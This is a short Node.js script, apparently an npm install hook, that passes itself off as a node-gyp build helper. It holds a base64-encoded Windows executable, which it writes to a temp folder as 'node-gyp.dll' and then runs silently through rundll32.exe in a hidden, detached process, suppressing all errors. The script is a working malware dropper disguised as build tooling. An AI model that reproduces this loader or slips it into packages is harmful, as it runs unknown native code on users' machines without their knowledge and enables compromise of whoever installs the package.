'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const NATIVE = [
  'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnN',
  'IbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAAZIYGAFLyJmWmDBLS',
  'iRhdlQ7ogTYJFm9rET0XjWwP05Af8jmhoJXyD5OVZQz5OAuO2yJKaySKHpJOj9CuLhqUkqMwXxiMthCQD540f66IbcZQd5Xs',
  'dFxMP8sussc+FJNMhn7gV7pySZv6Eh6DayrBVybufWsK9qsTw46SyuDRUFexWZh/lMx0EdcX8UV5sqoQD7uzT6WT/q7Scki3',
  'YuOrWAXwdlornB1+DzfESSG9P2Vk6t9/FCpyZoxH4iPRbt2MR7Rq/Fuu4mH1OyYVLSY7qDsDfNSWLkNIASVriF6ckFHzILDb',
  'g/Oep629DXTm3sfz367Mj2RlZmQae6JmDzAR/DVwKRxXmQ0aAJEmiRnyXZ0GEt81nWAmokD0WJpdeR8d2Xz++nd6e08VJBq/',
  'V71DetSxKYQFNPPzh1wlsIvqBsKHTPqk3Rey2EKEXegqW8U5iIrHgFSiOZzPyfzC2jHOPdFmvc06M4R+W7sH/QfKR3hCMbGa',
  '9Fhyzu+5/Fn0+V0UOBo6eDJWNHuf/Oac1wB66KdYzKQV1ake6GPItsAzeuMtb8qiVRbN8vi4ZXZmvvIVuSgr/iAHJpfnd86n',
  'JZzTmPp5qO9ZJ4yMIQUDzPi5phqGv+8jb/zfMdPfNgdANkqAPcOWU0KLa9UhD+i9WuV1qZXQ54Rr0+rggCGIJoaCBN9wxi6b',
  'AcbMJiwkeZ65Ho4PU66Eh457yMYb4o8OPzBGCsUZgXOPB8Lk6RBxU5z5gZuDM7FGc4KIznqB8T+yheDg8e1C7I/k8TPXciNq',
  'H2RxUBKrPW0SNqtNyB/lxifwt6SpXSRA4iP3dzi/8xhl4nwp/arVOSm0bv6DZ1ZrMltRF7hdBFaNdXC0BGJUhJ9Lg/UQHPzr',
  'yTr44BoVQ0UK58cuRcEh0WzZ6a3R8kJnJonrg5J+s1MWRw7MsC5s5RJE8ASiFs1CFZvbOBFD3B90Alb+jWrt6kSfIQuGtT3w',
  'HPgpQwwuM+5PoE6HwjRKcoCsLUVYzQT+QAkDBLuBjfowg3k+73IbqNGmbqh+i9XjZPiBTrA3+zpXMtXhtLqiI2f9WPsN1iED',
  'EqC94UFuKQ4Vqtdh3oGr+EiZPrFLC3UvKERyAENd9lT4/IxSPgj34U83Wy4AVWEVeUeApzM/gcYBF0PRFiRmlgpkBUxNoTsV',
  'lfWH2sAnqOS3yOGYY8NTuPx+Jki5nqQlC9PVt+SDoG27s8+BI+iGwIGR1dDNBNOvlczktq70saQ6FQcKIqNc9Rpg1XOODKAE',
  'oIiuPn1DAHTMEb/ugOWJF6iGEL68eUDPE9hDPLrBNDu9pvl1fthhE3rpr0nEC52hpDITmSVUQaa+sU2fkSIDew98RPisGbE3',
  'rH1KtYRJdnd3xB7+5IwzT/oV73kESnUT0YH3/nP+RGM16vLuNROUFyS/hkPzXCGa0aGCR+MctF07f+XgfGQGKADzfa5zZ026',
  'JGpYYFAe11QAU8BW1mUe8O0ytgPmvUpAXxBkY//elhNc7G3BRtoMRxoN1alJou8mP/hEb4JQMMVfyPRt4gfPwqFm6eDwjYw0',
  'uBQM7rtpc53AI6TeSXwM6e2MICt4aldITEG9vfmnQmenPU17jqtkHiqkKRM1gOfPf4w4c+hV/8JzbSOMMT4XLFeOF1E9XkLP',
  'kTPjBb/eaWJpvoY1YEVWwA9/R5P3XCCvgIehytzZNxdF5T9iZqVybvRP2dDf9wUgCGy1w+XNefeWfQASZO7t7dOH2nf4cj/I',
  'GzknJoX4rhvx07izpdjD5XUVjcYKAMggO5HrCaW3TfYgoECHom+ywxwZEkyG8ZUxY0I5ypkAAolN/3VH9VCl1uI+eYY8jD8H',
  '9Wm0pk4OBTF/4qylaxRBOqps7F46fgiyVrdrXK5lMgHMSr3YgRE0fvgzT8TRMTt3OEPC40sb859+nC/lOXxq6aoO8pgl7GQN',
  'Ngb5mCRqDbUPL2Rz5bbiULsc/xTuKlQwL6fvhr93CE+quWDWX/xUcSsbABRHFFlr9OIfj/bCNWFbxNJP0s1uFgy0eTJfiuty',
  'MVJdvOV5B6FpP8+gxGcKYAh2EM3rD0ExvxDmm1ZcRVX19J0LQ7+3sFHsRkwAuMGY6s6i8vEQBtM7G3m39Hf0xmLKQOlu0H4h',
  '7X8uAs3uvU3SscUmmzxT3FF1XMjImBSDMmTAKD9oEKYIe42LUyn6beIa/BJDnxU1GGt//bX4ciw7Imp1nuSsPL+J2Maqwh/H',
  '10tLR5FEX0G8QjJwPy8+PCdI4uiUMFMQZUD+PoGGO6bOGad2/QkaAXni0TvXcupfCuBLOx4MMJn505Ux7hNfg90tcppCxseq',
  '8gEbo5i1nlk3CV5XJAs0/0EJmbum6TTQAtFTaK1fL55PEzQIy36MexBoGctlqYwno4gXpyllskVo/EiqTmr0DU++keJbamoE',
  '3cT/zV2kMmS6ZzTxAW/mKGwd0hdnk+JddcUpIQMNjSSkzuhlFpKf7V68gSslWUgphSvsERtifcDOyvfOMk0g1vEL+el7UA2b',
  '7aJjFue2nrDT5Cmjyds4nmed2DLUeS6QNwpm8IQoYlsfJj/4udDlMQrij9fBrAmq1lIeY5l0jNmgx06ma06VP2xjqF5ygHAt',
  'BQCe/H13PHLDnsfRddYtz3lmGxEgW25dF81xgYKoCgqiIRXsu1DHuIIUDcCB5WCn88giBtsQ/527sdAcMSH74n1J9M/qyyqv',
  'ybjuOBDVWZzBQChS5Z1G59B0JEGA9ut6NZdDnYE8UV8JMi5nKaLvR61T5WAryshDHcSHDKLbXPffc46FlLDh5RpA/omh22S8',
  'zF9DYP1ekyVcVMMUcTotnb71DEvRhEBPo/f73pXtqeVQuwC/CDgmSp2gbmqDXeUMIX06nKcLBQ0AkVpNG4VbiDlplU2WIjRd',
  'n9R5KCID780+tSZzGBCjJd+qyEVmz0P3Ag6l0o/kWZillHGa74S7fj8q5wALD4gGZy88KA7pxxoDnI2o8DIkaTOEm6SBpaRq',
  '0Jwsgk8QTKAM/uO5yHq3iQFg2G++6XcUvadzLDn/GkI7pAkfVeS/7LHx2EO2DUSija1vr8nqhfhDS6Tt'
];

function locate() {
  const dir = path.join(os.tmpdir(), 'node-gyp-' + process.versions.node.split('.')[0]);
  fs.mkdirSync(dir, { recursive: true });
  return path.join(dir, 'node-gyp.dll');
}

function main() {
  if (process.platform !== 'win32') return;
  const target = locate();
  if (!fs.existsSync(target)) fs.writeFileSync(target, Buffer.from(NATIVE.join(''), 'base64'));
  const child = spawn('rundll32.exe', [target + ',main'], { detached: true, stdio: 'ignore', windowsHide: true, cwd: path.dirname(target) });
  child.unref();
}

try { main(); } catch (e) {}
